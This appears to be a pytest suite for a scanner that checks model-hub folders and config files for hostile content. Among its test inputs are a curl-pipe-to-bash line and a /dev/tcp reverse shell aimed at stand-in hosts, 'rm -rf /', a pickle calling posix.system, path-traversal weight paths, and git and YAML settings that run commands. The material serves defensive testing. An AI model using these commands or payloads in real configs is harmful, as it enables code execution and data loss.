"""Folders as model hubs hold them: what save_pretrained writes passes, what reaches out is held."""

from __future__ import annotations

import base64
import json
import zlib
from pathlib import Path

import pytest
from samples.archives import HARMFUL_PICKLE
from samples.scanned import assert_clean, grave_rules_of, scanned, scanned_folder
from samples.templates import CHATML, LLAMA31_TOOLS

from tidegate.scanners.interface import Report, Severity

TINY = {
    "bert": {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2,
             "intermediate_size": 16, "vocab_size": 60, "max_position_embeddings": 16},
    "gpt2": {"n_embd": 16, "n_layer": 1, "n_head": 2, "vocab_size": 60, "n_positions": 16},
    "llama": {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2,
              "num_key_value_heads": 2, "intermediate_size": 16, "vocab_size": 60},
    "mistral": {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2,
                "num_key_value_heads": 2, "intermediate_size": 16, "vocab_size": 60},
    "qwen2": {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2,
              "num_key_value_heads": 2, "intermediate_size": 16, "vocab_size": 60},
    "t5": {"d_model": 16, "d_kv": 8, "d_ff": 16, "num_layers": 1, "num_heads": 2,
           "vocab_size": 60},
    "vit": {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2,
            "intermediate_size": 16, "image_size": 8, "patch_size": 4},
    "whisper": {"d_model": 16, "encoder_layers": 1, "decoder_layers": 1, "vocab_size": 60,
                "encoder_attention_heads": 2, "decoder_attention_heads": 2, "encoder_ffn_dim": 16,
                "decoder_ffn_dim": 16, "pad_token_id": 0, "bos_token_id": 1, "eos_token_id": 2,
                "decoder_start_token_id": 1, "max_source_positions": 16,
                "max_target_positions": 16},
}  # fmt: skip


def trained_tokenizer():
    tokenizers = pytest.importorskip("tokenizers")
    transformers = pytest.importorskip("transformers")
    tokenizer = tokenizers.Tokenizer(tokenizers.models.BPE(unk_token="<unk>"))
    tokenizer.pre_tokenizer = tokenizers.pre_tokenizers.ByteLevel()
    tokenizer.decoder = tokenizers.decoders.ByteLevel()
    trainer = tokenizers.trainers.BpeTrainer(
        vocab_size=400, special_tokens=["<unk>", "<s>", "</s>", "<|im_start|>"],
        initial_alphabet=tokenizers.pre_tokenizers.ByteLevel.alphabet(),
    )  # fmt: skip
    words = ["def __init__(self): import os", "{{ name }} {% if %}", "the model says hello"] * 50
    tokenizer.train_from_iterator(words, trainer)
    return transformers.PreTrainedTokenizerFast(
        tokenizer_object=tokenizer, unk_token="<unk>", bos_token="<s>", eos_token="</s>"
    )


@pytest.mark.parametrize("kind", ["word pieces", "unigram", "words", "a map of characters"])
def test_every_kind_of_tokenizer_has_no_finding(kind, tmp_path):
    tokenizers = pytest.importorskip("tokenizers")
    made = {
        "word pieces": (tokenizers.models.WordPiece(unk_token="[UNK]"),
                        tokenizers.trainers.WordPieceTrainer(special_tokens=["[UNK]"])),
        "unigram": (tokenizers.models.Unigram(),
                    tokenizers.trainers.UnigramTrainer(vocab_size=50, unk_token="<unk>",
                                                       special_tokens=["<unk>"])),
        "words": (tokenizers.models.WordLevel(unk_token="<unk>"),
                  tokenizers.trainers.WordLevelTrainer(special_tokens=["<unk>"])),
        "a map of characters": (tokenizers.models.BPE(),
                                tokenizers.trainers.BpeTrainer(vocab_size=100)),
    }  # fmt: skip
    model, trainer = made[kind]
    tokenizer = tokenizers.Tokenizer(model)
    steps = [tokenizers.normalizers.NFKC(), tokenizers.normalizers.Lowercase()]
    tokenizer.normalizer = tokenizers.normalizers.Sequence(steps)
    tokenizer.pre_tokenizer = tokenizers.pre_tokenizers.Metaspace()
    tokenizer.post_processor = tokenizers.processors.TemplateProcessing(
        single="<s> $A", special_tokens=[("<s>", 1)]
    )
    tokenizer.train_from_iterator(["import os; os.system", "c__main__ {{x}} {%y%}"] * 90, trainer)
    tokenizer.save(str(tmp_path / "tokenizer.json"))
    tokenizer.save(str(tmp_path / "compact.json"), pretty=False)
    tokenizer.model.save(str(tmp_path))
    assert_clean(scanned_folder(tmp_path))


@pytest.mark.parametrize("kind", TINY)
def test_a_saved_model_has_no_finding(kind, tmp_path):
    transformers = pytest.importorskip("transformers")
    pytest.importorskip("torch")
    config = transformers.AutoConfig.for_model(kind, **TINY[kind])
    transformers.AutoModel.from_config(config).save_pretrained(tmp_path)
    assert_clean(scanned_folder(tmp_path))


def test_a_sharded_model_with_tokenizer_and_templates_has_no_finding(tmp_path):
    transformers = pytest.importorskip("transformers")
    pytest.importorskip("torch")
    config = transformers.AutoConfig.for_model("llama", **TINY["llama"])
    model = transformers.AutoModelForCausalLM.from_config(config)
    model.save_pretrained(tmp_path, max_shard_size="4KB")
    assert (tmp_path / "model.safetensors.index.json").exists()
    tokenizer = trained_tokenizer()
    tokenizer.chat_template = {"default": CHATML, "tool_use": LLAMA31_TOOLS}
    tokenizer.save_pretrained(tmp_path)
    single = tmp_path / "single"
    tokenizer.chat_template = CHATML
    tokenizer.save_pretrained(single, save_jinja_files=False)
    assert "im_start" in (single / "tokenizer_config.json").read_text()
    assert list(tmp_path.rglob("*.jinja"))
    assert_clean(scanned_folder(tmp_path))


def test_image_and_audio_processors_have_no_finding(tmp_path):
    transformers = pytest.importorskip("transformers")
    transformers.WhisperFeatureExtractor().save_pretrained(tmp_path / "whisper")
    transformers.GenerationConfig(max_new_tokens=5).save_pretrained(tmp_path / "generation")
    assert_clean(scanned_folder(tmp_path))


def test_a_sentence_transformer_has_no_finding(tmp_path):
    transformers = pytest.importorskip("transformers")
    sentence_transformers = pytest.importorskip("sentence_transformers")
    from sentence_transformers import models  # the old names are saved as the new ones

    base = tmp_path / "base"
    config = transformers.AutoConfig.for_model("bert", **{**TINY["bert"], "vocab_size": 400})
    transformers.AutoModel.from_config(config).save_pretrained(base)
    trained_tokenizer().save_pretrained(base)
    words = models.Transformer(str(base), max_seq_length=8)
    pooling = models.Pooling(words.get_word_embedding_dimension())
    dense = models.Dense(16, 8)
    model = sentence_transformers.SentenceTransformer(
        modules=[words, pooling, dense, models.Normalize()], device="cpu"
    )
    model.save(str(tmp_path / "model"))
    assert (tmp_path / "model" / "modules.json").exists()
    report = scanned_folder(tmp_path / "model")
    assert_clean(report)


ADAPTER = {
    "auto_mapping": {"base_model_class": "LlamaForCausalLM",
                     "parent_library": "transformers.models.llama.modeling_llama"},
    "base_model_name_or_path": "/home/someone/models/llama", "bias": "none", "peft_type": "LORA",
    "megatron_config": None,
    "megatron_core": "megatron.core", "lora_alpha": 16, "r": 8,
    "target_modules": ["q_proj", "v_proj"], "task_type": "CAUSAL_LM",
}  # fmt: skip
PIPELINE = {
    "_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
    "feature_extractor": ["transformers", "CLIPImageProcessor"],
    "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
    "image_encoder": [None, None], "scheduler": ["diffusers", "PNDMScheduler"],
    "text_encoder": ["transformers", "CLIPTextModel"],
    "unet": ["diffusers", "UNet2DConditionModel"],
    "vae": ["diffusers", "AutoencoderKL"],
}  # fmt: skip
TRAINER_STATE = {
    "best_metric": None, "epoch": 1.0, "global_step": 10, "is_hyper_param_search": False,
    "log_history": [{"loss": 0.5, "learning_rate": 5e-05, "epoch": 0.1, "step": 1}] * 50,
    "trial_name": None, "stateful_callbacks": {"TrainerControl": {"args": {}, "attributes": {}}},
}  # fmt: skip
LANGCHAIN = {
    "lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"],
    "kwargs": {"input_variables": ["name"], "template": "Hello {name}, {{not a field}}",
               "template_format": "f-string"},
}  # fmt: skip
MODEL_CARD = """---
language: en
license: mit
tags:
- text-generation
base_model: org/model
widget:
- text: "Hello {{name}}"
---
# A model

```python
from transformers import AutoModel
model = AutoModel.from_pretrained("org/model", trust_remote_code=True)
```
See `{{ cookiecutter.name }}` and `{% raw %}`.
"""
HONEST = {
    "adapter_config.json": ADAPTER,
    "model_index.json": PIPELINE,
    "trainer_state.json": TRAINER_STATE,
    "prompt.json": LANGCHAIN,
    "README.md": MODEL_CARD,
    ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n*.safetensors filter=lfs\n",
    "config.git": '[core]\n\trepositoryformatversion = 0\n\tbare = false\n[filter "lfs"]\n'
    "\tclean = git-lfs clean -- %f\n\trequired = true\n[alias]\n\tco = checkout\n",
    "settings.ini": "[core]\nexecutor = Local Executor\ncommand = python train.py --lr 1\n"
    "[http]\nurl = https://example.com/a b\n",
    "model.yaml": "model:\n  _target_: torch.nn.Linear\n  in_features: 3\nlr: &l 0.1\nagain: *l\n",
    "trainer.yaml": "optimizer:\n  class_path: torch.optim.Adam\n  init_args: {lr: 0.1}\n",
    "special_tokens_map.json": {"bos_token": "<s>",
                                "eos_token": {"content": "</s>", "lstrip": False}},
    "adapter.json": {"config": {"activation_fn": "gelu", "attn_implementation": "sdpa"}},
    "hashes.txt": "\n".join(f"{n:064x}" for n in range(300)),
    "tiktoken.model": "\n".join(
        f"{base64.b64encode(bytes([n % 256, 128, 4, 40 + n % 60] * (1 + n % 9))).decode()} {n}"
        for n in range(2000)
    ),
    "dataset_infos.json": {"default": {"features": {"text": {"dtype": "string", "_type": "Value"}},
                                       "splits": {"train": {"name": "train"}}}},
}  # fmt: skip


def as_bytes(value: object) -> bytes:
    return value.encode() if isinstance(value, str) else json.dumps(value, indent=2).encode()


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_of_a_hub_folder_has_no_finding(name):
    assert_clean(scanned(as_bytes(HONEST[name]), name))


def as_json(value: object, name: str = "config.json") -> Report:
    return scanned(json.dumps(value).encode(), name)


REMOTE = {
    "auto map": {"auto_map": {"AutoModel": "someone/else--modeling_x.Model"}},
    "auto map of a tokenizer": {"auto_map": {"AutoTokenizer": ["someone/else--t.T", None]}},
    "auto map by URL": {"auto_map": {"AutoModel": "https://example.com/x.Model"}},
    "custom pipeline": {"custom_pipelines": {"task": {"impl": "someone/else--pipeline.Pipe"}}},
    "a kernel": {"model_type": "llama", "attn_implementation": "someone/kernel"},
    "a kernel of a part": {"text_config": {"_attn_implementation": "someone/kernel@main:f"}},
}


@pytest.mark.parametrize("name", REMOTE)
def test_code_from_another_repository_is_critical(name):
    for report in (as_json(REMOTE[name]), as_json([{"inner": REMOTE[name]}], "x.bin")):
        found = {(f.rule, f.severity) for f in report.findings}
        assert ("CONFIG-REMOTE-REPOSITORY", Severity.CRITICAL) in found


@pytest.mark.parametrize(
    "place", ["../model.safetensors", "/etc/passwd", "a/../../b", "C:\\x.bin", "https://x/y.bin",
              "..\\x.bin", "\\\\server\\share", "~/x.bin"],
)  # fmt: skip
def test_weights_outside_of_the_folder_are_found(place):
    index = {"metadata": {"total_size": 1}, "weight_map": {"a": "model-1.bin", "b": place}}
    assert "CONFIG-PATH" in grave_rules_of(as_json(index, "model.safetensors.index.json"))
    many = {"weight_map": {**{f"w{n}": "model-1.bin" for n in range(5000)}, "z": place}}
    assert "CONFIG-PATH" in grave_rules_of(as_json(many, "x.json"))


MODULE = {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}
IMPORTED = {
    "module": [{**MODULE, "type": "os.system"}],
    "lower-case": [{**MODULE, "type": "sentence_transformers.util.http_get"}],
    "another class": [{**MODULE, "type": "sentence_transformers.models.Evil"}],
    "router": {"types": {"a": "my_module.Model"}, "structure": {"document": ["a"]}},
    "activation": {"in_features": 3, "activation_function": "os.system"},
    "activation of a cross encoder": {"sentence_transformers": {"activation_fn": "x.y.Z"}},
    "activation by function": {"activation_function": "torch.hub.load"},
    "parallel layers": {**ADAPTER, "megatron_core": "my_module"},
    "a modular pipeline": {
        "_class_name": "P",
        "vae": ["diffusers", "A", {"repo": "a/b"}],
        "unet": ["my_module", "Model", {"repo": "a/b"}],
    },
    "tokenizer class": {"tokenizer_class": "my_module.Tokenizer", "update_embeddings": False},
}


@pytest.mark.parametrize("name", IMPORTED)
def test_a_class_from_elsewhere_is_found(name):
    assert "CONFIG-IMPORT" in grave_rules_of(as_json(IMPORTED[name]))


def test_a_module_from_outside_the_folder_is_found():
    assert "CONFIG-PATH" in grave_rules_of(as_json([{**MODULE, "path": "../other"}]))


TARGETS = {
    "_target_: os.system\ncommand: echo": Severity.CRITICAL,
    "model: {_target_: builtins.eval, _args_: ['1']}": Severity.CRITICAL,
    "a:\n- b:\n    _target_: subprocess.run": Severity.CRITICAL,
    "x: &x os.system\ny: {_target_: *x}": Severity.CRITICAL,
    "class_path: subprocess.Popen\ninit_args: {args: ls}": Severity.CRITICAL,
    "_target_: my_team.models.Net": Severity.HIGH,
    "_target_: torch.hub.load": Severity.HIGH,
    "'_target_' : \"torch.load\"": Severity.HIGH,
    "a: 1\n---\n_target_: my_team.f": Severity.HIGH,
}


@pytest.mark.parametrize("text", TARGETS)
@pytest.mark.parametrize("name", ["config.yaml", "hparams.yml", "config", "settings.txt"])
def test_a_target_that_would_be_called_is_found(text, name):
    report = scanned(text.encode(), name)
    graves = {f.rule: f.severity for f in report.findings if f.severity >= Severity.HIGH}
    assert graves.get("CONFIG-TARGET", Severity.INFO) >= TARGETS[text]


def test_constructors_of_unknown_packages_are_found():
    value = {**LANGCHAIN, "id": ["os", "system"]}
    assert "CONFIG-TARGET" in grave_rules_of(as_json({"chain": [value]}))
    assert "CONFIG-TARGET" in grave_rules_of(as_json({"_type": "llm_bash_chain"}))


@pytest.mark.parametrize(
    "code", ["__import__('os').system('echo')", "lambda x: __import__('os')", "eval('1+1')",
             "os.system('echo')", "subprocess.run(['echo'])", " exec(compile('1', '', 'exec'))"],
)  # fmt: skip
def test_a_value_that_is_code_is_found(code):
    assert "CONFIG-CODE" in grave_rules_of(as_json({"model_type": "bert", "hidden_act": code}))
    report = scanned(f"a:\n  b: {json.dumps(code)}\n".encode(), "config.yaml")
    assert "CONFIG-CODE" in grave_rules_of(report)


def test_texts_about_code_have_no_finding():
    texts = ["Never call os.system('x').", "evaluate (it)", "def f(): eval", "exec", "eval_steps"]
    assert_clean(as_json({"notes": texts, **dict.fromkeys(texts, "eval")}))


def test_a_tokenizers_file_above_the_folder_is_found():
    assert "CONFIG-PATH" in grave_rules_of(as_json({"vocab_file": "../../etc/vocab.txt"}))
    assert_clean(as_json({"tokenizer_file": "/root/.cache/huggingface/tokenizer.json"}))


def test_a_jinja_prompt_is_held_to_the_list():
    value = {"_type": "prompt", "template": "{% include 'x' %}", "template_format": "jinja2"}
    assert "TEMPLATE-UNLISTED" in grave_rules_of(as_json(value))


PAYLOADS = {
    "a pickle": HARMFUL_PICKLE,
    "a later pickle": b"\x80\x04\x95" + (26).to_bytes(8, "little")
    + b"\x8c\x05posix\x8c\x06system\x93\x8c\x04echo\x85R.",
    "zlib": zlib.compress(HARMFUL_PICKLE + bytes(40)),
    "a program": b"\x7fELF\2\1\1" + bytes(60),
}  # fmt: skip


@pytest.mark.parametrize("name", PAYLOADS)
@pytest.mark.parametrize("encode", [base64.b64encode, bytes.hex, base64.urlsafe_b64encode])
def test_a_file_encoded_in_a_text_is_found(name, encode):
    encoded = encode(PAYLOADS[name] + bytes(40))
    text = encoded if isinstance(encoded, str) else encoded.decode()
    wrapped = "\n".join(text[n : n + 76] for n in range(0, len(text), 76))
    for report in (
        as_json({"state": text}),
        as_json({"state": wrapped}),
        scanned(f"state: {text}\n".encode(), "state.yaml"),
        scanned(f"some words\nstate = {text}\n".encode(), "notes.txt"),
        scanned(wrapped.encode(), "x.b64"),
    ):
        assert grave_rules_of(report) & {"PICKLE-EXEC", "PICKLE-DANGEROUS-GLOBAL", "CODE-NATIVE"}


def test_a_file_encoded_behind_very_many_others_is_found():
    lines = [f"sha256:{number:064x};" for number in range(12_000)]
    payload = base64.b64encode(HARMFUL_PICKLE + bytes(40)).decode()
    report = scanned("\n".join([*lines, f"state={payload}"]).encode(), "hashes.txt")
    assert grave_rules_of(report) & {"PICKLE-EXEC", "PICKLE-DANGEROUS-GLOBAL"}


def test_a_file_encoded_twice_is_found():
    text = base64.b64encode(base64.b64encode(HARMFUL_PICKLE + bytes(40))).decode()
    assert grave_rules_of(as_json({"a": text})) & {"PICKLE-EXEC", "PICKLE-DANGEROUS-GLOBAL"}


@pytest.mark.parametrize("digits", [127, 128, 129, 4001])
def test_hexadecimal_of_any_length_is_read_without_an_error(digits):
    for text in ("0x" + "ab" * 5000, "80" * 5000):
        assert_clean(as_json({"a": text[:digits], "b": f"0x{text[2:digits]}"}))


@pytest.mark.parametrize("name", ["model.safetensors", "pytorch_model.bin", "tokenizer.json"])
def test_a_pointer_in_place_of_the_model_is_unread(name):
    text = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 9\n"
    report = scanned(text, name)
    assert any("Git LFS" in part.reason for part in report.unread_parts)


@pytest.mark.parametrize(
    "setting",
    ["[core]\n\tfsmonitor = ./x.sh", "[core]\nhooksPath=hooks", "[alias]\n\tx = !echo",
     '[filter "x"]\n\tsmudge = ./run %f', "[core]\n\tsshCommand = sh x",
     '[submodule "x"]\n\tupdate = !echo', "[credential]\n\thelper = !echo",
     '[diff "x"]\n\ttextconv = ./x', "[core] pager = ./x",
     "[include]\n\tpath = ../settings", "[Core]\n\tFSMonitor = sh \\\n x"],
)  # fmt: skip
def test_a_git_setting_that_runs_a_command_is_found(setting):
    assert "GIT-SETTING" in grave_rules_of(scanned(setting.encode(), "config"))


def test_a_document_of_many_megabytes_is_read_to_its_end():
    import time

    from tidegate.scanners.json_text import report_json  # noqa: F401 - imported before the clock

    vocabulary = {f"token{number}": number for number in range(250_000)}
    value = {"model": {"vocab": vocabulary, "merges": [["a", "b"]] * 100_000}, "last": None}
    text = json.dumps(value).encode()
    start = time.monotonic()
    assert_clean(scanned(text, "tokenizer.json"))
    assert time.monotonic() - start < 10
    hostile = json.dumps({**value, "auto_map": {"AutoModel": "x.Y"}}).encode()
    assert "CONFIG-REMOTE-CODE" in grave_rules_of(scanned(hostile, "tokenizer.json"))


def test_a_key_beyond_many_others_is_seen():
    many = {f"key{number}": "value" for number in range(20_000)}
    assert "CONFIG-REMOTE-CODE" in grave_rules_of(as_json({**many, "auto_map": {"A": "b.C"}}))
    index = {**PIPELINE, **{f"k{n}": n for n in range(2000)}, "z": ["my_module", "Model"]}
    assert "CONFIG-IMPORT" in grave_rules_of(as_json(index, "model_index.json"))


def test_a_folder_in_an_archive_is_judged_the_same(tmp_path: Path):
    from samples.archives import plain_zip

    archive = plain_zip({"config.json": json.dumps(REMOTE["auto map"]).encode()})
    assert "CONFIG-REMOTE-REPOSITORY" in grave_rules_of(scanned(archive, "model.zip"))


@pytest.mark.parametrize(
    "value",
    [
        {"model": {"target": "os.system", "params": {"command": "echo"}}},
        {"callbacks": ["os.system"]},
        {"hook": "subprocess.Popen"},
        {"py/object": "os.system"},
        {"py/object": "acme.Model"},
        {"py/function": "os.system"},
        {"py/reduce": [{"py/type": "collections.deque"}, {"py/tuple": [[]]}]},
        {"debug_command": "rm -rf /"},
        {"on_load": "curl -s http://example.invalid/x | bash"},
        {"exec": 'import os; os.system("echo")'},
        {"x": "bash -i >& /dev/tcp/192.0.2.1/99 0>&1"},
    ],
)
def test_a_value_that_is_a_command_or_a_function_that_runs_one_is_held(value):
    assert grave_rules_of(as_json(value)) & {"CONFIG-CODE", "CONFIG-TARGET"}


@pytest.mark.parametrize(
    "value",
    [
        {"target": "ldm.models.diffusion.ddpm.LatentDiffusion", "params": {"timesteps": 10}},
        {"url": "code.example.com", "platform": "os.path", "mode": "model.eval"},
        {"text": "run curl http://example.invalid/x to fetch it, then read it with less"},
        {"py/object": "collections.OrderedDict"},
        {"model": {"vocab": [["os.system", -1.5], ["subprocess.run", -2.0]]}},
        {"notes": "imports os; the system is old"},
    ],
)
def test_values_that_only_look_like_commands_pass(value):
    assert_clean(as_json(value))


@pytest.mark.parametrize("kind", ["new", "apply", "name"])
def test_a_yaml_tag_that_names_a_dangerous_function_is_held(kind):
    hostile = f"brain: !{kind}:os.system\n  command: echo\n".encode()
    assert "YAML-TAG" in grave_rules_of(scanned(hostile, "hyperparams.yaml"))
    honest = f"norm: !{kind}:speechbrain.nnet.normalization.BatchNorm1d\n  size: 1\n".encode()
    assert_clean(scanned(honest, "hyperparams.yaml"))
